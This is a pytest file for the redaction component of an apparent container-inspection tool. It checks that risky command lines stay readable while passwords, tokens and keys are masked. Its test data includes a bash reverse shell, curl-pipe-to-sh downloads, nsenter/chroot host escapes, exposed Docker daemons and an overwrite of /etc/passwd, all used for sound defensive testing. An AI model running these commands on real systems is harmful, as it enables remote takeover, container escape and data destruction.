"""Command lines: what the rules read stays, what may be a secret does not."""

import re

import pytest

from inspector.sources.redact import MARK, Redactor

REDACTOR = Redactor(b"a key of sixteen")


def vector(*argv: str, entrypoint: list[str] | None = None) -> list[str]:
    """`argv` as a container's Cmd, its marks shortened to their kind."""
    config = {"Cmd": list(argv), "Entrypoint": entrypoint}
    shown = REDACTOR.document("container", {"Config": config})["Config"]["Cmd"]
    return [short(word) for word in shown]


def line(text: str) -> str:
    shown = REDACTOR.document("image", {"History": [{"CreatedBy": text}]})["History"][0]["CreatedBy"]
    assert isinstance(shown, str)
    return short(shown)


def short(text: str) -> str:
    return MARK.sub(lambda mark: f"<{mark[0].split()[1]}>", text)


KEPT = [
    ["dockerd", "-H", "unix:///var/run/docker.sock", "-H", "tcp://0.0.0.0:2375", "--tls=false"],
    ["dockerd", "-Htcp://0.0.0.0:2375", "--host=fd://", "--host", "0.0.0.0:2375", "-H", ":2375"],
    ["dockerd", "--tlsverify", "--tlscacert", "/certs/server/ca.pem", "--tlskey=/certs/server/key.pem"],
    ["dockerd", "--insecure-registry", "10.0.0.0/8", "--insecure-registry=registry.lan:5000", "--iptables=false"],
    ["dockerd", "--seccomp-profile=unconfined", "--default-runtime", "crun", "--data-root=/srv/docker", "--debug"],
    ["dockerd-entrypoint.sh"],
    ["dockerd-rootless.sh", "--experimental"],
    ["podman", "run", "--device-cgroup-rule", "b *:* rwm", "--device-cgroup-rule=c 1:1 r"],
    ["podman", "system", "service", "--time=0", "tcp://0.0.0.0:8080"],
    ["podman", "system", "service", "-t", "0", "unix:///run/podman/podman.sock"],
    ["buildkitd", "--addr", "tcp://0.0.0.0:1234", "--allow-insecure-entitlement", "security.insecure"],
    ["k3s", "server", "--disable-agent", "--docker"],
    ["/bin/k3s", "agent"],
    ["containerd", "--address", "/run/containerd/containerd.sock", "--config", "/etc/containerd/config.toml"],
    ["/usr/sbin/sshd", "-D", "-e", "-p", "2222"],
    ["nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"],
    ["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "bash", "-l"],
    ["chroot", "/host", "/bin/sh"],
    ["traefik", "--providers.docker", "--providers.docker.endpoint=tcp://proxy:2375", "--providers.docker=true"],
    ["socket-proxy", "-listenip=0.0.0.0", "-allowfrom=10.0.0.0/8", r"-allowGET=/v1\..{1,2}/(version|events.*)"],
    ["portainer", "-H", "unix:///var/run/docker.sock"],
    ["socat", "TCP-LISTEN:2375,fork,reuseaddr", "UNIX-CONNECT:/var/run/docker.sock"],
    ["docker", "run", "--privileged", "-v", "/var/run/docker.sock:/var/run/docker.sock:ro", "-v", "/:/host"],
    ["tini", "--", "some-service", "--workers=4"],
    ["java", "-agentlib:jdwp=transport=dt_socket,server=y,suspend=n,address=*:5005", "-Ddebug=true"],
    ["node", "--inspect=0.0.0.0:9229"],
    ["redis-server", "--protected-mode", "no"],
    ["sh", "-c", "exec dockerd -H tcp://0.0.0.0:2375 --tls=false"],
    ["sh", "-c", "mount -t proc proc /proc; chroot /host sh -c 'nsenter -t 1 -m bash'"],
    ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ["sh", "-c", "curl -fsSL http://198.51.100.7/ | sh"],
    ["sh", "-c", 'DOCKER_HOST=tcp://dind:2375 docker build . && "$@"'],
    ["sleep", "infinity"],
    ["nginx", "-g", "daemon off;"],
    ["C:\\Windows\\System32\\cmd.exe"],
    ["sh", "-c", "echo $HOME ${USER} $(id -u) `date`"],
]


@pytest.mark.parametrize("argv", KEPT, ids=lambda argv: " ".join(argv)[:50])
def test_what_rules_read_stays(argv: list[str]) -> None:
    if argv[0] == "sh" and "proc proc" in argv[-1]:
        argv = [*argv[:-1], argv[-1].replace("proc proc ", "")]
    assert vector(*argv) == argv


HIDDEN = [
    (["app", "hunter2"], ["app", "<text>"]),
    (["app", "--password=hunter2"], ["app", "--password=<password>"]),
    (["app", "--password", "hunter2"], ["app", "--password", "<password>"]),
    (["app", "--password", "--hunter2"], ["app", "--password", "<password>"]),
    (["app", "--password", "12345"], ["app", "--password", "<default>"]),
    (["app", "--db-pass=12349"], ["app", "--db-pass=<password>"]),
    (["app", "--api-key", "server"], ["app", "--api-key", "<token>"]),
    (["app", "--token", "/run/secrets/token"], ["app", "--token", "<text>"]),
    (["app", "--password", "changeme"], ["app", "--password", "<default>"]),
    (["app", "--password", "${PASSWORD}"], ["app", "--password", "<placeholder>"]),
    (["app", "--password="], ["app", "--password="]),
    (["app", "--flag", "hunter2"], ["app", "--flag", "<text>"]),
    (["app", "--debug", "hunter2"], ["app", "--debug", "<text>"]),
    (["podman", "--device-cgroup-rule", "b hunter2"], ["podman", "--device-cgroup-rule", "<text>"]),
    (["app", "-phunter2"], ["app", "-p<text>"]),
    (["app", "-pQmFzZTY0cGFzcw=="], ["app", "-p<text>"]),
    (["mysql", "-phunter2", "-u", "root"], ["mysql", "-p<password>", "-u", "root"]),
    (["mysql", "-p", "server"], ["mysql", "-p", "<password>"]),
    (["mysql", "-p12347"], ["mysql", "-p<password>"]),
    (["redis-cli", "-a", "server"], ["redis-cli", "-a", "<password>"]),
    (["curl", "-u", "user:hunter2", "http://h/"], ["curl", "-u", "<password>", "http://h/"]),
    (["curl", "-H", "Authorization: Bearer hunter2"], ["curl", "-H", "<token>"]),
    (["curl", "-H", "X-Api-Key: hunter2"], ["curl", "-H", "<token>"]),
    (["app", "-H", "hunter2"], ["app", "-H", "<text>"]),
    (["app", "-Dcolour=hunter2"], ["app", "-Dcolour=<text>"]),
    (["app", "PASSWORD=hunter2"], ["app", "PASSWORD=<password>"]),
    (["app", "PASSWORD=my server is root"], ["app", "PASSWORD=<password>"]),
    (["env", "TOKEN=hunter2hunter2", "app"], ["env", "TOKEN=<token>", "<text>"]),
    (
        ["app", "https://u:hunter2@h:8443/hunter2?x=hunter2#hunter2"],
        ["app", "https://<url-credentials>@h:8443/<text>?<text>"],
    ),
    (["app", "AKIAABCDEFGHIJKLMNOP"], ["app", "<key>"]),
    (["app", "--x", "ghp_abcdefghijklmnopqrstuvwxyz0123456789"], ["app", "--x", "<key>"]),
    (["app", "/srv/3f2b8c1de4a95f60718293a4b5c6d7e8/x"], ["app", "<text>"]),
    (["app", "--3f2b8c1de4a95f60718293a4b5c6d7e8"], ["app", "<text>"]),
    (["app", "hunter2 and more"], ["app", "<text>"]),
    (["app", "a b 'hunter2' \"server hunter2\""], ["app", "<text>"]),
    (["app", "sh a 'hunter2' \"server hunter2\""], ["app", 'sh <text> "server <text>"']),
    (["app", "-\x00hunter2"], ["app", "<text>"]),
    (["app", "-é"], ["app", "<text>"]),
    (["app", "x" * 100_000], ["app", "<text>"]),
    (["sh", "-c", "export TOKEN=hunter2hunter2; exec app"], ["sh", "-c", "export TOKEN=<token>; exec <text>"]),
    (["sh", "-c", "PASSWORD='hunter 2' dockerd -H tcp://0.0.0.0:2375"], None),
    (["sh", "-c", 'echo "hunter2" | docker login -u me --password-stdin'], None),
    (["sh", "-c", "mysql -phunter2 -e 'select 1'"], None),
    (["sh", "-c", "sshpass -p hunter2 ssh root@h"], None),
    (["sh", "-c", "echo hunter2 > /etc/passwd"], None),
    (["sh", "-c", "app --password=\"hunter2\" --x='hunter2'"], None),
    (["sh", "-c", "app --env A=\"hunter2 hunter2\" -e B='hunter2'"], None),
    (["sh", "-c", "cat <<EOF\nhunter2\nEOF"], None),
    (["sh", "-c", "a=`echo hunter2`; b=$(echo hunter2)"], None),
    (["sh", "-c", "echo ${X:-hunter2} ${hunter2hunter2:=hunter2}"], None),
    (["sh", "-c", 'echo "unclosed hunter2'], None),
    (["sh", "-c", "sh -c 'sh -c \"sh -c hunter2\"'"], None),
    (["sh", "-c", "echo a\\ hunter2 hun\\ter2"], None),
    (["sh", "-c", "curl http://u:hunter2@h/hunter2"], None),
    (["sh", "-c", 'curl --data \'{"password": "hunter2"}\' https://h/'], None),
]


@pytest.mark.parametrize(("argv", "shown"), HIDDEN, ids=lambda case: " ".join(case)[:50] if case else "")
def test_what_may_be_a_secret_does_not(argv: list[str], shown: list[str] | None) -> None:
    result = vector(*argv, entrypoint=["/entrypoint.sh"] if argv[0] not in {"mysql", "curl", "redis-cli"} else None)
    expected = ["<text>", *shown[1:]] if shown and argv[0] == "app" else shown
    assert "hunter2" not in " ".join(result)
    if expected is not None:
        assert result == expected


def test_a_secret_keeps_the_rest_of_its_line() -> None:
    shown = vector("sh", "-c", "PASSWORD='hunter 2' dockerd -H tcp://0.0.0.0:2375")
    assert shown == ["sh", "-c", "PASSWORD='<password>' dockerd -H tcp://0.0.0.0:2375"]


def test_neighbours_share_a_mark() -> None:
    assert line("RUN apt-get install -y foo-lib bar-lib && rm -rf /var/lib/apt/lists/*") == (
        "RUN apt-get install -y <text> && rm -rf /var/lib/apt/lists/*"
    )


@pytest.mark.parametrize(
    ("step", "shown"),
    [
        ("/bin/sh -c #(nop)  ENV DB_PASSWORD=hunter2", "/bin/sh -c #(nop)  ENV DB_PASSWORD=<password>"),
        ("|1 TOKEN=hunter2hunter2 /bin/sh -c make", "|1 TOKEN=<token> /bin/sh -c make"),
        ("ARG PASSWORD=hunter2", "ARG PASSWORD=<password>"),
        ("ADD https://h/x.tar.gz /opt/ # buildkit", "ADD https://h/<text> /opt/ # buildkit"),
        ("RUN /bin/sh -c curl -k https://h/ | sh # buildkit", "RUN /bin/sh -c curl -k https://h/ | sh # buildkit"),
        ("RUN /bin/sh -c apt-get update", "RUN /bin/sh -c apt-get update"),
        ("RUN pip install --trusted-host h x", "RUN pip install --trusted-host <text> <text>"),
        ("RUN wget --no-check-certificate https://h/", "RUN wget --no-check-certificate https://h/"),
    ],
)
def test_build_steps(step: str, shown: str) -> None:
    assert line(step) == shown


def test_the_program_of_a_container_tells_what_its_arguments_are() -> None:
    document = {"Path": "/usr/bin/mysql", "Args": ["-p", "root"]}
    assert [short(word) for word in REDACTOR.document("container", document)["Args"]] == ["-p", "<default>"]


def test_a_program_after_an_init_is_kept() -> None:
    document = {"Path": "/sbin/tini", "Args": ["-g", "--", "some-service", "hunter2"]}
    assert REDACTOR.document("container", document)["Args"][:3] == ["-g", "--", "some-service"]


@pytest.mark.parametrize("options", [["-e", "hunter2"], ["--env", "-e", "hunter2"], ["-x", "hunter2"]])
def test_what_may_be_the_value_of_an_init_program_is_no_program(options: list[str]) -> None:
    document = {"Path": "/sbin/tini", "Args": [*options, "some-service"]}
    assert "hunter2" not in REDACTOR.document("container", document)["Args"]


@pytest.mark.parametrize("path", ["TOKEN=hunter2", "hunter2 x", "3f2b8c1de4a95f60718293a4b5c6d7e8"])
def test_what_is_no_program_is_hidden_in_its_place(path: str) -> None:
    shown = REDACTOR.document("container", {"Path": path, "Args": []})["Path"]
    assert "hunter2" not in shown
    assert path not in shown


@pytest.mark.parametrize("odd", [None, 1, True, "dockerd", {"a": "hunter2"}, ["x", 1, None, {"b": ["hunter2"]}]])
@pytest.mark.parametrize("field", ["Cmd", "Entrypoint", "Args", "Test", "OnBuild", "Shell", "CreateCommand", "Env"])
def test_wrong_types_leak_nothing(field: str, odd: object) -> None:
    shown = REDACTOR.document("container", {field: odd, "Config": {field: odd}})
    assert "hunter2" not in repr(shown)


def test_marks_are_not_counterfeited() -> None:
    fake = "<redacted text hunter2>"
    assert "hunter2" not in " ".join(vector("app", fake, f"--x={fake}", f"A={fake} {fake}"))


def test_hostile_lines_take_linear_time() -> None:
    for piece in ("'", '"', "\\", "<redacted ", "$(", "a=", "--a=", "://", "@", "`'\"", " -x", "a:"):
        text = piece * (60_000 // len(piece))
        assert len(line(text)) <= len(text) * 40
        assert re.fullmatch(r"<\w+>", line(text * 2))  # over the limit: one mark
